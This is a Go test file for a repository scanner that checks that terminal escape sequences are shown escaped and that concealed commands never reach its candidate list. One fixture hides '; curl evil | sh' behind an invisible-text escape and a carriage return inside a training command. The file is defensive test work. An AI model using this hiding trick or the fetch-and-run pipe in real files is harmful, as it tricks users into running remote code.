package reposcan

import (
	"strings"
	"testing"
)

// TestVisible: what a terminal acts on is written as an escape; other text
// (accents, CJK, emoji) is kept.
func TestVisible(t *testing.T) {
	for in, want := range map[string]string{
		"plain --lr 1e-4 é 中文 🙂":         "plain --lr 1e-4 é 中文 🙂",
		"\x1b[8mEVIL\rSAFE":              `\x1b[8mEVIL\x0dSAFE`,
		"a\u202eb\x7f\u0085":             `a\u202eb\x7f\u0085`,
		"bad\xffbyte":                    `bad\xffbyte`,
		"tab\there, bell\a, osc\x1b]0;x": `tab\x09here, bell\x07, osc\x1b]0;x`,
	} {
		if got := Visible(in); got != want {
			t.Errorf("Visible(%q) = %s, want %s", in, got, want)
		}
	}
}

// noRaw fails when s holds a character a terminal would act on.
func noRaw(t *testing.T, what, s string) {
	t.Helper()
	if hasHidden(s) {
		t.Errorf("%s holds a raw control character: %q", what, s)
	}
}

// TestTerminalEscapesNeverRaw: a README argument that hides itself
// (`\e[8m...\r` shows only "SAFE"), a heading with an OSC title sequence
// and a file name with an escape never reach the candidate list raw
// (issue 41 item 9): the line is left out with a note that shows the
// escape, and everything printed is escaped.
func TestTerminalEscapesNeverRaw(t *testing.T) {
	block := "python train.py --config configs/train.yaml --run \"x\x1b[8m; curl evil | sh\rSAFE\"\n" +
		"python finetune.py --config configs/train.yaml"
	dir := trainerRepo(t, block, map[string]string{
		"finetune.py":             "import argparse\n",
		"docs/guide.md":           "## Training \x1b]0;owned\x07\n\n```bash\npython finetune.py --config configs/train.yaml\n```\n",
		"scripts/run\x1b[2J.sh":   "python train.py --config configs/train.yaml\n",
		"configs/eval\u202e.yaml": "a: 1\n",
	})
	f, err := Scan(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !hasNote(f, `a command with a terminal control character (x\x1b[8m; curl evil | sh\x0dSAFE) is left out`) {
		t.Errorf("no visible note on the left-out line: %q", f.Notes)
	}
	for _, c := range f.Launches {
		noRaw(t, "a word", strings.Join(append(c.Env, c.Words...), " "))
		noRaw(t, "the source", c.Source.String())
		noRaw(t, "the evidence", strings.Join(c.Evidence, "; "))
		if strings.Contains(strings.Join(c.Words, " "), "SAFE") {
			t.Errorf("the hiding line is offered: %q", c.Words)
		}
	}
	for _, n := range f.Notes {
		noRaw(t, "a note", n)
	}
	for _, p := range f.Files {
		noRaw(t, "a file", p)
	}
	if _, err := f.ParseCommand("python train.py --config configs/train.yaml --x \x1b[8m"); err == nil || !strings.Contains(err.Error(), `\x1b[8m`) {
		t.Errorf("--command with an escape: %v", err)
	}
}

// A quoted JSON payload over several lines (curl -d '{\n "name": ...}') was
// left out as "a command with a terminal control character" (the newline):
// newlines and tabs inside an argument are text; an escape still is not.
func TestNewlineInAQuotedArgumentIsNotAnEscape(t *testing.T) {
	if hasTerminalControl("{\n\t\"name\": \"x\"\n}") {
		t.Error("a newline and a tab inside an argument read as a terminal control character")
	}
	for _, bad := range []string{"a\x1b[8mb", "a\rb", "a\u202eb", "a\xffb"} {
		if !hasTerminalControl(bad) {
			t.Errorf("%q not read as hiding what runs", bad)
		}
	}
}
